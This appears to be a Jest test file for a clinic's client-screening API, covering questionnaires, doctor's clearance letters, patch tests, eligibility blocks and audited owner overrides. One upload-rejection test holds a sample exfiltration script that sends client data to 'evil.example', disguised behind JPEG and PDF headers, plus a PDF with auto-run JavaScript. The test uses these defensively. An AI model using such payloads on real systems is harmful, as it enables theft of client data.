import { readdir } from 'node:fs/promises';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { PDFName, PDFString } from 'pdf-lib';
import { addCalendarDays, CURRENT_SCREENING_QUESTIONNAIRE } from '@smp/contracts';
import { createTestApp, type TestApp } from '../test-support/test-app.js';
import { letterPdf, signatureDataUrl } from '../test-support/files.js';
import { catalogPigment, dayFromToday } from '../test-support/scheduling.js';
import { signTreatmentConsent } from '../test-support/consents.js';
import { EligibilityService } from './eligibility.service.js';

let testApp: TestApp;
let signature: string;
let clearanceLetterPdf: Buffer;
beforeAll(async () => {
  testApp = await createTestApp();
  signature = await signatureDataUrl();
  clearanceLetterPdf = await letterPdf();
});
afterAll(async () => {
  await testApp.close();
});

const noToAll = () => Object.fromEntries(CURRENT_SCREENING_QUESTIONNAIRE.questions.map((question) => [question.id, { answer: false }]));

let clientNumber = 0;
/** A new client who has signed the treatment consent: what the screening decides is all that stands in the way. */
async function newClient() {
  clientNumber += 1;
  const response = await testApp
    .as('receptionist')
    .post('/api/clients')
    .send({ firstName: 'Client', lastName: `Number${clientNumber}`, phone: `(415) 555-01${String(clientNumber).padStart(2, '0')}` });
  await signTreatmentConsent(testApp, response.body.id as string);
  return response.body.id as string;
}

function screen(clientId: string, yes: Record<string, { answer: boolean; date?: string }> = {}, role: 'artist' | 'owner' = 'artist') {
  return testApp
    .as(role)
    .post(`/api/clients/${clientId}/screenings`)
    .send({ questionnaireVersion: CURRENT_SCREENING_QUESTIONNAIRE.version, answers: { ...noToAll(), ...yes }, signedName: 'Client Person', signature });
}

async function storedFiles(): Promise<string[]> {
  return (await readdir(testApp.filesDir, { recursive: true, withFileTypes: true })).filter((entry) => entry.isFile()).map((entry) => entry.name);
}

const eligibility = (clientId: string, role: 'artist' | 'receptionist' | 'owner' = 'artist') =>
  testApp
    .as(role)
    .get(`/api/clients/${clientId}/eligibility`)
    .then((response) => response.body);

describe('signing a screening', () => {
  it('records the answers, the signature and the questionnaire version, valid for the clinic’s 90 days', async () => {
    const clientId = await newClient();
    const response = await screen(clientId, { keloid_tendency: { answer: true } });
    expect(response.status).toBe(201);
    expect(response.body).toMatchObject({
      clientId,
      questionnaireVersion: CURRENT_SCREENING_QUESTIONNAIRE.version,
      signedName: 'Client Person',
      answeredOutcome: 'caution',
      status: { state: 'caution', eligible: true, openItems: 1 },
      conductedBy: { id: testApp.staff.artist.id },
      signature,
    });
    expect(response.body.validUntil).toBe(dayFromToday(89));
    expect(response.body.items).toEqual([expect.objectContaining({ questionId: 'keloid_tendency', outcome: 'caution', status: 'open' })]);
  });

  it('needs every question answered, a date where a yes asks for one, a typed name and a drawn signature', async () => {
    const clientId = await newClient();
    const answers = noToAll();
    delete answers.diabetes;
    const response = await testApp
      .as('artist')
      .post(`/api/clients/${clientId}/screenings`)
      .send({
        questionnaireVersion: CURRENT_SCREENING_QUESTIONNAIRE.version,
        answers: { ...answers, recent_injectables: { answer: true }, made_up: { answer: true } },
        signedName: ' ',
        signature: 'data:image/png;base64,',
      });
    expect(response.status).toBe(400);
    expect(response.body.errors.map((error: { field: string }) => error.field).sort()).toEqual([
      'answers.diabetes',
      'answers.made_up',
      'answers.recent_injectables.date',
      'signature',
      'signedName',
    ]);
    const oldVersion = await testApp.as('artist').post(`/api/clients/${clientId}/screenings`).send({ questionnaireVersion: '1999-v0', answers: noToAll(), signedName: 'A B', signature });
    expect(oldVersion.body.errors).toEqual([{ field: 'questionnaireVersion', message: 'Not a questionnaire version' }]);
    expect(await testApp.database.screening.count({ where: { clientId } })).toBe(0);
  });

  it('is immutable: the app cannot change or delete it, and a change is a new screening', async () => {
    const clientId = await newClient();
    const first = (await screen(clientId)).body;
    await expect(testApp.database.$executeRaw`UPDATE screenings SET signed_name = 'Someone else'`).rejects.toThrow(/permission denied/);
    await expect(testApp.database.$executeRaw`DELETE FROM screenings`).rejects.toThrow(/permission denied/);
    await expect(testApp.testDatabase.asOwner(`UPDATE screenings SET signed_name = 'Someone else'`)).rejects.toThrow(/immutable/);
    for (const method of ['put', 'patch', 'delete'] as const) {
      expect((await testApp.as('owner')[method](`/api/screenings/${first.id}`).send({})).status).toBe(404);
    }
    const second = (await screen(clientId, { blood_thinners: { answer: true } })).body;
    const list = (await testApp.as('artist').get(`/api/clients/${clientId}/screenings`)).body.items;
    expect(list.map((screening: { id: string }) => screening.id)).toEqual([second.id, first.id]);
  });

  it('shows receptionists the outcome but not the answers, and audits the clinicians’ reading of them', async () => {
    const clientId = await newClient();
    const created = (await screen(clientId, { blood_thinners: { answer: true } })).body;
    const asReception = (await testApp.as('receptionist').get(`/api/screenings/${created.id}`)).body;
    expect(asReception).toMatchObject({ status: { state: 'clearance_required', eligible: false, openItems: 1 }, items: null, answers: null, signature: null });
    const reasons = (await eligibility(clientId, 'receptionist')).reasons;
    expect(reasons).toEqual([{ code: 'clearance_missing', message: 'Waiting for a doctor’s clearance.', questionId: null, until: null }]);
    expect(JSON.stringify(asReception)).not.toMatch(/blood/i);
    expect((await testApp.as('receptionist').post(`/api/clients/${clientId}/screenings`).send({})).status).toBe(403);

    const readsBefore = await testApp.database.auditEvent.count({ where: { action: 'screening.read', clientId } });
    await testApp.as('artist').get(`/api/screenings/${created.id}`);
    expect(await testApp.database.auditEvent.count({ where: { action: 'screening.read', clientId } })).toBe(readsBefore + 1);
    expect((await eligibility(clientId, 'artist')).reasons[0]).toMatchObject({ questionId: 'blood_thinners', message: expect.stringMatching(/Blood thinners/) });
  });
});

describe('clearing items', () => {
  it('a doctor’s letter on a clearance-required item makes the client eligible', async () => {
    const clientId = await newClient();
    const screening = (await screen(clientId, { blood_thinners: { answer: true } })).body;
    expect(await eligibility(clientId)).toMatchObject({ eligible: false, status: { state: 'clearance_required' } });

    const attached = await testApp
      .as('artist')
      .post(`/api/screenings/${screening.id}/clearances`)
      .field('questionId', 'blood_thinners')
      .field('note', 'Letter from Dr Patel: may proceed.')
      .attach('file', clearanceLetterPdf, 'dr-patel.pdf');
    expect(attached.status).toBe(201);
    const item = attached.body.items.find((candidate: { questionId: string }) => candidate.questionId === 'blood_thinners');
    expect(item).toMatchObject({ status: 'cleared', clearance: { note: 'Letter from Dr Patel: may proceed.', documentName: 'dr-patel.pdf', reviewedBy: { id: testApp.staff.artist.id } } });
    expect(await eligibility(clientId)).toMatchObject({ eligible: true, reasons: [], status: { state: 'clear' } });

    const read = await testApp.as('artist').get(`/api/screenings/${screening.id}`);
    expect(read.headers['cache-control']).toBe('no-store');

    // Served as a download in its checked type, never as a page of this site, and never cached.
    const document = await testApp.as('owner').get(item.clearance.documentUrl).buffer(true);
    expect(document.headers).toMatchObject({
      'content-type': 'application/pdf',
      'content-disposition': 'attachment; filename=dr-patel.pdf',
      'x-content-type-options': 'nosniff',
      'content-security-policy': "sandbox; default-src 'none'",
      'cache-control': 'no-store',
    });
    expect(Buffer.compare(document.body as Buffer, clearanceLetterPdf)).toBe(0);
    expect((await testApp.as('receptionist').get(item.clearance.documentUrl)).status).toBe(403);
  });

  it('refuses letters for items that need none, twice for one item, and files that are not letters', async () => {
    const clientId = await newClient();
    const screening = (await screen(clientId, { diabetes: { answer: true } })).body;
    const attach = (questionId: string, file: Buffer, name: string) =>
      testApp.as('artist').post(`/api/screenings/${screening.id}/clearances`).field('questionId', questionId).attach('file', file, name);
    expect((await attach('keloid_tendency', clearanceLetterPdf, 'a.pdf')).status).toBe(400);
    expect((await attach('blood_thinners', clearanceLetterPdf, 'a.pdf')).status).toBe(400);
    expect((await attach('diabetes', Buffer.from('MZ not a letter'), 'letter.pdf')).status).toBe(415);
    expect((await attach('diabetes', clearanceLetterPdf, 'a.pdf')).status).toBe(201);
    expect((await attach('diabetes', clearanceLetterPdf, 'b.pdf')).status).toBe(409);
    expect(await testApp.database.screeningClearance.count({ where: { screeningId: screening.id } })).toBe(1);
  });

  it('refuses web pages and PDFs that could run something, and leaves neither files nor rows behind', async () => {
    const clientId = await newClient();
    const screening = (await screen(clientId, { diabetes: { answer: true } })).body;
    const attach = (file: Buffer, name: string) => testApp.as('artist').post(`/api/screenings/${screening.id}/clearances`).field('questionId', 'diabetes').attach('file', file, name);
    const before = await storedFiles();
    const page = '<html><body><script>fetch("/api/clients").then((r) => r.text()).then(navigator.sendBeacon.bind(navigator, "https://evil.example"))</script></body></html>';

    const htmlAsJpeg = await attach(Buffer.from(page), 'letter.jpg');
    expect(htmlAsJpeg.status).toBe(415);
    expect(htmlAsJpeg.body.errors).toEqual([{ field: 'file', message: 'Attach the letter as a PDF, JPEG or PNG' }]);

    const htmlBehindJpegHeader = await attach(Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.from(page)]), 'letter.jpg');
    expect(htmlBehindJpegHeader.status).toBe(400);
    expect(htmlBehindJpegHeader.body.errors).toEqual([{ field: 'file', message: 'The image could not be read; it may be damaged' }]);

    const htmlBehindPdfHeader = await attach(Buffer.from(`%PDF-1.7\n${page}`), 'letter.pdf');
    expect(htmlBehindPdfHeader.status).toBe(400);
    expect(htmlBehindPdfHeader.body.errors).toEqual([{ field: 'file', message: 'The PDF could not be read; it may be damaged' }]);

    const autoRunScript = await letterPdf((document) => {
      document.catalog.set(PDFName.of('OpenAction'), document.context.obj({ S: 'JavaScript', JS: PDFString.of('app.alert("hello")') }));
    });
    const scripted = await attach(autoRunScript, 'letter.pdf');
    expect(scripted.status).toBe(400);
    expect(scripted.body.errors).toEqual([{ field: 'file', message: 'The PDF contains JavaScript; attach a plain copy (print it to PDF or scan the letter)' }]);

    expect(await storedFiles()).toEqual(before);
    expect(await testApp.database.screeningClearance.count({ where: { screeningId: screening.id } })).toBe(0);
  });

  it('a passed patch test clears a pigment allergy; a later failed one of the same pigment brings it back', async () => {
    const clientId = await newClient();
    await screen(clientId, { pigment_allergy: { answer: true } });
    expect(await eligibility(clientId)).toMatchObject({ eligible: false, status: { state: 'not_suitable' } });
    const neutralBlack = await catalogPigment(testApp, 'Neutral Black');
    const test = { pigmentId: neutralBlack.id, lotId: neutralBlack.lotId, appliedOn: '2026-01-05', readOn: '2026-01-07', result: 'passed' };
    const passed = await testApp.as('artist').post(`/api/clients/${clientId}/patch-tests`).send(test);
    expect(passed.status).toBe(201);
    expect(await eligibility(clientId)).toMatchObject({ eligible: true, status: { state: 'clear' } });
    await testApp
      .as('artist')
      .post(`/api/clients/${clientId}/patch-tests`)
      .send({ ...test, appliedOn: '2026-01-10', readOn: '2026-01-12', result: 'failed' });
    expect(await eligibility(clientId)).toMatchObject({ eligible: false, status: { state: 'not_suitable' } });
    const invalid = await testApp
      .as('artist')
      .post(`/api/clients/${clientId}/patch-tests`)
      .send({ ...test, readOn: '2026-01-01' });
    expect(invalid.body.errors).toEqual([{ field: 'readOn', message: 'Cannot be before it was applied' }]);
  });
});

describe('the treatment block', () => {
  it('names every reason: no screening, expiry, deferral until a date, not suitable, missing clearance', async () => {
    const never = await newClient();
    expect(await eligibility(never)).toMatchObject({ eligible: false, reasons: [{ code: 'no_screening' }], status: { state: 'none' } });

    const deferred = await newClient();
    await screen(deferred, { scalp_condition: { answer: true, date: '2099-01-10' }, pigment_allergy: { answer: true }, diabetes: { answer: true } });
    expect((await eligibility(deferred)).reasons.map((reason: { code: string; until: string | null }) => [reason.code, reason.until])).toEqual([
      ['clearance_missing', null],
      ['not_suitable', null],
      ['deferred', '2099-01-10'],
    ]);

    const expiring = await newClient();
    const screening = (await screen(expiring)).body;
    const dayAfter = addCalendarDays(screening.validUntil, 1);
    const later = (await testApp.as('artist').get(`/api/clients/${expiring}/eligibility?on=${dayAfter}`)).body;
    expect(later).toMatchObject({ eligible: false, reasons: [{ code: 'screening_expired' }] });
  });

  it('refuses treatment through the service with a problem naming the reasons', async () => {
    const clientId = await newClient();
    await screen(clientId, { blood_thinners: { answer: true } });
    const service = testApp.app.get(EligibilityService);
    await expect(service.assertTreatmentAllowed(clientId, dayFromToday(0), 'receptionist')).rejects.toMatchObject({
      problem: { status: 409, type: '/problems/not-eligible-for-treatment', reasons: [expect.objectContaining({ code: 'clearance_missing' })] },
    });
  });

  it('lets an owner override with a written reason, on the audit trail; nobody else may', async () => {
    const clientId = await newClient();
    await screen(clientId, { diabetes: { answer: true } });
    const inAMonth = dayFromToday(30);
    const override = { reason: 'GP confirmed by phone; letter follows by post.', validUntil: inAMonth };
    const tooLong = await testApp
      .as('owner')
      .post(`/api/clients/${clientId}/eligibility-overrides`)
      .send({ ...override, validUntil: '2099-12-31' });
    expect(tooLong.body.errors).toEqual([{ field: 'validUntil', message: expect.stringMatching(/^Choose a day from .* to .*/) }]);
    expect((await testApp.as('artist').post(`/api/clients/${clientId}/eligibility-overrides`).send(override)).status).toBe(403);
    expect(
      (
        await testApp
          .as('owner')
          .post(`/api/clients/${clientId}/eligibility-overrides`)
          .send({ ...override, reason: 'ok' })
      ).status,
    ).toBe(400);
    const granted = await testApp.as('owner').post(`/api/clients/${clientId}/eligibility-overrides`).send(override);
    expect(granted.status).toBe(201);
    expect(granted.body).toMatchObject({
      eligible: true,
      reasons: [{ code: 'clearance_missing' }],
      override: { reason: override.reason, validUntil: inAMonth, grantedBy: { id: testApp.staff.owner.id } },
    });
    const service = testApp.app.get(EligibilityService);
    await expect(service.assertTreatmentAllowed(clientId, dayFromToday(0), 'owner')).resolves.toMatchObject({ eligible: true });
    const [event] = (await testApp.as('owner').get('/api/audit-events').query({ action: 'eligibility.override', clientId })).body.items;
    expect(event).toMatchObject({ actor: { id: testApp.staff.owner.id }, details: { reason: override.reason } });

    // A newer screening is a new question: the override answered the old one.
    await screen(clientId, { pregnant_breastfeeding: { answer: true } });
    expect(await eligibility(clientId)).toMatchObject({ eligible: false, override: null, reasons: [{ code: 'deferred' }] });
  });
});

describe('screening status wherever the client appears', () => {
  it('is on the client record and in client lists', async () => {
    const clientId = await newClient();
    await screen(clientId, { pregnant_breastfeeding: { answer: true } });
    const client = (await testApp.as('receptionist').get(`/api/clients/${clientId}`)).body;
    expect(client.screening).toMatchObject({ state: 'defer', eligible: false, deferUntil: null });
    const listed = (
      await testApp
        .as('receptionist')
        .get('/api/clients')
        .query({ q: `Number${clientNumber}` })
    ).body.items;
    expect(listed[0].screening).toEqual(client.screening);
  });
});
